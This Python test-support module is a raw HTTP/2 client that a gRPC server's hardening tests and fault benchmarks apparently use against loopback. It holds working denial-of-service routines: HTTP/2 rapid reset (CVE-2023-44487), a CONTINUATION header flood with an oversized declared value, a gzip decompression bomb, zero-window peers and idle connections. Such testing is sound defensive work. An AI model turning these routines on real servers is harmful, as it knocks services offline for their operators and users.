"""A raw HTTP/2 client (the h2 library over asyncio streams) for what no gRPC client sends:
headers without a body, a body that never ends, a zero receive window, streams reset as soon as
they are opened (rapid reset, CVE-2023-44487), a header block that never ends (a CONTINUATION
flood). One client for bench/faults.py and the hardening tests (``from bench._h2 import ...``);
loopback attacks only, each bounded by its caller.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import select
import socket
import struct

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

CANCEL = h2.errors.ErrorCodes.CANCEL
_HEADERS, _CONTINUATION, _GOAWAY, _RST_STREAM = 0x1, 0x9, 0x7, 0x3
REFUSED_STREAM = 0x7


def grpc_frame(message: bytes) -> bytes:
    """A gRPC length-prefixed message (uncompressed)."""
    return struct.pack(">BI", 0, len(message)) + message


def gzip_bomb(nbytes: int) -> bytes:
    """A gRPC message frame, gzip-compressed (flag 1), that inflates to ``nbytes`` zero bytes
    (send it with ``grpc-encoding: gzip``): about a thousandth of that on the wire."""
    return _compressed_frame(gzip.compress(bytes(nbytes), 9))


def _compressed_frame(payload: bytes) -> bytes:
    return struct.pack(">BI", 1, len(payload)) + payload


def grpc_headers(path: str, metadata: tuple[tuple[str, str], ...] = ()) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers"), *metadata]


def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", sid) + payload


def _hpack_int(value: int, prefix_bits: int) -> bytes:
    """An HPACK integer (RFC 7541 5.1) with a ``prefix_bits`` prefix (other prefix bits 0)."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes((value,))
    out, value = bytearray((top,)), value - top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing (new name; lengths < 127)."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


async def connect(port: int, *, host: str = "127.0.0.1", source: str | None = None,
                  timeout_s: float = 10.0) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A TCP connection to ``host:port``, from the local address ``source`` if given (another
    loopback address, 127.0.0.2, stands for another machine)."""
    local = (source, 0) if source is not None else None
    return await asyncio.wait_for(
        asyncio.open_connection(host, port, local_addr=local), timeout_s)


class RawH2:
    """One HTTP/2 connection to a local server. ``statuses``: each stream's response headers
    and trailers seen; ``goaway``: the error code of a GOAWAY the server sent (None: none);
    ``reset``: the streams the server reset, with their error codes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self._conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.status: dict[int, dict[bytes, bytes]] = {}
        self.reset: dict[int, int] = {}
        self.goaway: int | None = None
        self.closed = False
        self._read_window = True  # False: never open the window again (a non-reading peer)
        self.refused = 0  # RST_STREAM(REFUSED_STREAM) frames the server sent, streams this
        # client had reset already included (h2 drops those without an event)
        self._tail = b""  # an incomplete frame, to scan with the next read

    @classmethod
    async def open(cls, port: int, *, window: int | None = None, host: str = "127.0.0.1",
                   source: str | None = None) -> RawH2:
        """``window``: the receive window it announces (0: the server may send it no DATA);
        ``source``: the local address to connect from."""
        reader, writer = await connect(port, host=host, source=source)
        raw = cls(reader, writer)
        if window is not None:
            raw._conn.local_settings = h2.settings.Settings(
                client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
            raw._read_window = False
        raw._conn.initiate_connection()
        await raw._flush()
        return raw

    async def _flush(self) -> None:
        data = self._conn.data_to_send()
        if data:
            self._writer.write(data)
            await self._writer.drain()

    # ------------------------------------------------------------------ calls
    async def start_call(self, path: str, *, metadata: tuple[tuple[str, str], ...] = (),
                         body: bytes | None = None, end: bool = False) -> int:
        """Open a call: its headers, then (optionally) ``body`` bytes, ended or not."""
        sid = self._conn.get_next_available_stream_id()
        self._conn.send_headers(sid, grpc_headers(path, metadata), end_stream=end and body is None)
        if body is not None and len(body) > self._conn.max_outbound_frame_size:
            await self._flush()
            await self.send_body(sid, body, end=end)  # frame by frame, as flow control allows
            return sid
        if body is not None:
            self._conn.send_data(sid, body, end_stream=end)
        await self._flush()
        return sid

    async def start_calls(self, path: str, n: int, *, body: bytes | None,
                          metadata: tuple[tuple[str, str], ...] = ()) -> list[int]:
        """Open ``n`` calls at once (all their frames in one write): complete with ``body``,
        or headers only (half-open) with None."""
        sids = []
        for _ in range(n):
            sid = self._conn.get_next_available_stream_id()
            self._conn.send_headers(sid, grpc_headers(path, metadata))
            if body is not None:
                self._conn.send_data(sid, body, end_stream=True)
            sids.append(sid)
        await self._flush()
        return sids

    async def send_body(self, sid: int, body: bytes, *, end: bool) -> bool:
        """Send ``body`` on stream ``sid`` as flow control allows, reading the server's frames
        meanwhile; False when the server answered the call or closed the connection first."""
        view = memoryview(body)
        try:
            while view:
                room = min(self._conn.local_flow_control_window(sid),
                           self._conn.max_outbound_frame_size)
                if room <= 0:
                    if not await self.pump(1.0):
                        return False
                    continue
                self._conn.send_data(sid, bytes(view[:room]))
                view = view[room:]
                await self._flush()
            if end:
                self._conn.end_stream(sid)
                await self._flush()
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, ConnectionError):
            return False
        return True

    # ---------------------------------------------------------------- attacks
    async def rapid_reset(self, path: str, n: int, *, metadata: tuple[tuple[str, str], ...] = (),
                          batch: int = 100) -> int:
        """CVE-2023-44487: ``n`` streams, each reset (CANCEL) right after its headers, written
        ``batch`` pairs at a time; how many were sent before the server closed the
        connection (or sent GOAWAY)."""
        sent = 0
        try:
            while sent < n and self.goaway is None and not self.closed:
                for _ in range(min(batch, n - sent)):
                    sid = self._conn.get_next_available_stream_id()
                    self._conn.send_headers(sid, grpc_headers(path, metadata))
                    self._conn.reset_stream(sid, CANCEL)
                    sent += 1
                await self._flush()
                await self.pump(0.0)
        except (h2.exceptions.ProtocolError, ConnectionError):
            self.closed = True
        return sent

    async def continuation_flood(self, path: str, nbytes: int, *, frame_bytes: int = 16384,
                                 timeout_s: float = 60.0, one_value: bool = False) -> int:
        """A HEADERS frame without END_HEADERS, then CONTINUATION frames of ``frame_bytes`` that
        never end the block, up to ``nbytes``: new literal header fields of 100 bytes, or with
        ``one_value`` a single field whose value is declared 2 GiB long and streamed. Returns
        how many bytes were written before the server closed the connection (or sent GOAWAY).
        After this the connection is raw bytes only (no further call)."""
        sid = self._conn.get_next_available_stream_id()
        block = self._conn.encoder.encode(grpc_headers(path))
        if one_value:  # a literal field, new name, value length 2^31 (HPACK integer, 7-bit prefix)
            block += b"\x00\x07x-flood" + _hpack_int(1 << 31, 7)
            payload = b"v" * frame_bytes
        else:
            field = _literal(b"x-flood", b"v" * 100)
            payload = field * max(1, frame_bytes // len(field))
        await self._flush()
        frame = _frame(_CONTINUATION, 0, sid, payload)
        self._writer.write(_frame(_HEADERS, 0, sid, block))  # no END_HEADERS, no END_STREAM
        sent = 0
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout_s
        buffered = b""
        try:
            while sent < nbytes and loop.time() < deadline and self.goaway is None:
                for _ in range(64):  # 1 MiB a write
                    if self._writer.is_closing():
                        raise ConnectionResetError  # the server closed it
                    self._writer.write(frame)
                    sent += len(payload)
                while True:  # the server may stop reading, or close its side and not read
                    try:
                        await asyncio.wait_for(self._writer.drain(),
                                               max(0.0, min(0.1, deadline - loop.time())))
                        break
                    except TimeoutError:
                        if loop.time() >= deadline:
                            break
                    buffered = await self._read_available(buffered)  # raises at its FIN
                if loop.time() >= deadline or self._reader.at_eof():
                    break
                buffered = await self._read_available(buffered)  # else it stops reading
        except ConnectionError:
            pass
        self.closed = True
        return sent

    async def _read_available(self, buffered: bytes) -> bytes:
        """Read what the server has sent so far (looking for GOAWAY); ConnectionResetError once
        it has closed its side."""
        while True:
            try:
                got = await asyncio.wait_for(self._reader.read(1 << 20), 0.0001)
            except TimeoutError:
                return buffered
            if not got:
                raise ConnectionResetError
            buffered = self._scan_goaway(buffered + got)

    def _count_refused(self, data: bytes) -> None:
        data = self._tail + data
        while len(data) >= 9:
            length = int.from_bytes(data[:3], "big")
            if len(data) < 9 + length:
                break
            if data[3] == _RST_STREAM and length == 4 and \
                    int.from_bytes(data[9:13], "big") == REFUSED_STREAM:
                self.refused += 1
            data = data[9 + length:]
        self._tail = data

    def _scan_goaway(self, data: bytes) -> bytes:
        """Look through raw frames for a GOAWAY; returns an incomplete frame's bytes."""
        while len(data) >= 9:
            length = int.from_bytes(data[:3], "big")
            if len(data) < 9 + length:
                break
            if data[3] == _GOAWAY and length >= 8:
                self.goaway = int.from_bytes(data[13:17], "big")
            data = data[9 + length:]
        return data

    # ---------------------------------------------------------------- reading
    async def pump(self, timeout_s: float) -> bool:
        """Read and handle what arrives within ``timeout_s``; False once the peer closed."""
        try:
            data = await asyncio.wait_for(self._reader.read(1 << 20), timeout_s) if timeout_s \
                else await self._read_ready()
        except TimeoutError:
            return not self.closed
        except ConnectionError:
            self.closed = True
            return False
        if data is None:
            return not self.closed
        if not data:
            self.closed = True
            return False
        try:
            self._count_refused(data)
            events = self._conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return False
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived | h2.events.TrailersReceived):
                self.status.setdefault(ev.stream_id, {}).update(dict(ev.headers))
            elif isinstance(ev, h2.events.DataReceived) and self._read_window:
                self._conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.reset[ev.stream_id] = int(ev.error_code)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = int(ev.error_code)
        try:
            await self._flush()
        except ConnectionError:
            self.closed = True
            return False
        return True

    async def _read_ready(self) -> bytes | None:
        """What is buffered already (None: nothing), without waiting."""
        try:
            return await asyncio.wait_for(self._reader.read(1 << 20), 0.001)
        except TimeoutError:
            return None

    def grpc_code(self, sid: int) -> int | None:
        got = self.status.get(sid, {})
        return int(got[b"grpc-status"]) if b"grpc-status" in got else None

    async def grpc_status(self, sid: int, timeout_s: float) -> tuple[int, str] | None:
        """(grpc-status, grpc-message) of stream ``sid``, or None if none came in time."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout_s
        while self.grpc_code(sid) is None:
            left = deadline - loop.time()
            if left <= 0 or not await self.pump(left):
                if self.grpc_code(sid) is None:
                    return None
        got = self.status[sid]
        return int(got[b"grpc-status"]), got.get(b"grpc-message", b"").decode()

    async def wait_closed_by_peer(self, timeout_s: float) -> bool:
        """Read (and answer pings) until the server closes the connection: True, or False when
        ``timeout_s`` passed first."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout_s
        while (left := deadline - loop.time()) > 0:
            if not await self.pump(left):
                return True
        return False

    def peer_closed(self) -> bool:
        """Whether the server closed the connection, without reading from it."""
        sock = self._writer.get_extra_info("socket")
        if sock is None or sock.fileno() < 0:
            return True
        poll = select.poll()
        poll.register(sock.fileno(), select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        return bool(poll.poll(0))

    async def close(self) -> None:
        """Drop the connection (what is still buffered to send is dropped too: a peer that
        stopped reading would otherwise hold the close until it gave up)."""
        self._writer.transport.abort()
        with contextlib.suppress(ConnectionError, OSError):
            await self._writer.wait_closed()


def idle_socket(port: int, *, source: str | None = None, preface: bool = True,
                connect_timeout_s: float = 5.0) -> socket.socket:
    """A blocking TCP connection that sends only the HTTP/2 preface and SETTINGS (or nothing)
    and then holds still."""
    k = socket.create_connection(("127.0.0.1", port), timeout=connect_timeout_s,
                                 source_address=(source, 0) if source is not None else None)
    k.settimeout(None)
    if preface:
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        k.sendall(c.data_to_send())
    return k


def closed_by_peer(k: socket.socket | None) -> bool:
    """Whether the server closed socket ``k`` (or it is closed already), without reading."""
    if k is None or k.fileno() < 0:
        return True
    poll = select.poll()
    poll.register(k.fileno(), select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    return bool(poll.poll(0))
